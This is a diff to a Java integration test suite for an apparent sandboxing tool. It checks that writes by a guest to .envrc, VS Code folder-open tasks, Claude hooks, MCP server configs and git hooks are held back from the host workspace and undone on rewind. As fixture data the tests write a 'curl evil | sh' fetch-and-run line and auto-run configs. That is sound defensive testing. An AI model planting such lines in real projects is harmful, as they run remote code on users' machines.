@@ -180,12 +180,13 @@ class HeldPathsIT {
         Path dir = box.workspace().resolve("tools");
         Files.createDirectories(dir);
         Files.writeString(dir.resolve(".envrc"), "export MINE=1\n");
-        Kosa.Result r = sh(box, "cd tools && echo 'curl evil | sh' > .envrc"
+        Kosa.Result r = sh(box, "cd tools && echo 'curl evil | sh' > .envrc && sed -i s/evil/worse/ .envrc"
                 + " && mkdir -p .vscode .claude && echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}'"
                 + " > .vscode/tasks.json && echo '{\"hooks\":{\"Stop\":[]}}' > .claude/settings.json"
                 + " && echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > .mcp.json"
                 + " && cat .envrc .vscode/tasks.json .claude/settings.json .mcp.json | wc -l");
         assertThat(r.stdout()).as("the guest sees what it wrote").isEqualTo("4\n");
+        assertThat(sh(box, "cat tools/.envrc").stdout()).isEqualTo("curl worse | sh\n");
         assertThat(dir.resolve(".envrc")).content().isEqualTo("export MINE=1\n");
         assertThat(dir.resolve(".vscode")).doesNotExist();
         assertThat(dir.resolve(".claude")).doesNotExist();
@@ -240,6 +241,21 @@ class HeldPathsIT {
         Kosa.Result gone = box.exec("sh", "-c", "ls reviewed/.github 2>&1 | wc -l; cat reviewed/.envrc");
         assertThat(gone.stdout()).isEqualTo("0\nexport A=2\n");
         assertThat(dir.resolve(".github/workflows")).doesNotExist();
+    }
+
+    @Test
+    void aRewindPutsBackWhatWasHeldAtItsCheckpoint(SharedSandbox.Booted box) throws Exception {
+        sh(box, "mkdir -p rewound/.git && echo 'export B=1' > rewound/.envrc");
+        Kosa.ok(Duration.ofMinutes(5), "checkpoint", box.id(), "-m", "held: .envrc only");
+        sh(box, "cd rewound && echo 'export B=2' > .envrc && mkdir .git/hooks && echo '#!/bin/sh' > .git/hooks/post-merge");
+        assertThat(Kosa.ok(Duration.ofMinutes(1), "review", box.id(), "--no-diff").stdout())
+                .contains("rewound/.git/hooks");
+        Kosa.ok(Duration.ofMinutes(5), "rewind", box.id());
+        Kosa.Result after = box.exec("sh", "-c", "cat rewound/.envrc; ls rewound/.git/hooks 2>/dev/null | wc -l");
+        assertThat(after.stdout()).as(after.toString()).isEqualTo("export B=1\n0\n");
+        assertThat(Kosa.ok(Duration.ofMinutes(1), "review", box.id(), "--no-diff").stdout())
+                .contains("rewound/.envrc").doesNotContain("rewound/.git/hooks");
+        assertThat(box.workspace().resolve("rewound/.envrc")).doesNotExist();
     }
 
     @Test
